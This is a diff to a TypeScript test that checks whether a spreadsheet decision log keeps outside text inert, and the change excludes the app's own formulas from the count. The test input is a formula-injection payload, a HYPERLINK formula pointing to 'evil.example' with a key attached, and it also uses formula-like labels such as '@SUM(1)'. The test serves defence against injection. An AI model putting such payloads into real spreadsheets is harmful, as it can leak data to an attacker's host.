@@ -32,6 +32,8 @@ async function formula(lab: Lab, way: Way): Promise<Finding> {
 	if (way.startsWith('n8n')) return notApplicable('no log');
 	if (way === 'ours-email') return notApplicable('the same record as over Telegram');
 	const ledger = await lab.setUpSpreadsheet();
+	// The charts of the summary stand on formulas of ours, which no text from outside reaches.
+	const ours = new Set(lab.ours.control.sheets.formulas().map((each) => JSON.stringify(each)));
 	const key = newKey();
 	const text = `=HYPERLINK("https://evil.example?${key}","click")`;
 	const question = await ask(lab, 'ours-sheets', { key, question: text, approveLabel: '+1+1', rejectLabel: '@SUM(1)' });
@@ -39,7 +41,7 @@ async function formula(lab: Lab, way: Way): Promise<Finding> {
 	const [decision] = (await ledger.read('decision_log')).filter((each) => each.question.includes(key));
 	const labels = decision?.options.map(({ label }) => label);
 	const kept = decision?.question === text && JSON.stringify(labels) === JSON.stringify(['+1+1', '@SUM(1)']);
-	const formulas = lab.ours.control.sheets.formulas();
+	const formulas = lab.ours.control.sheets.formulas().filter((each) => !ours.has(JSON.stringify(each)));
 	return kept && formulas.length === 0
 		? holds('every cell is text')
 		: fails(`formulas in ${formulas.map(({ cell }) => cell).join(', ')}`);
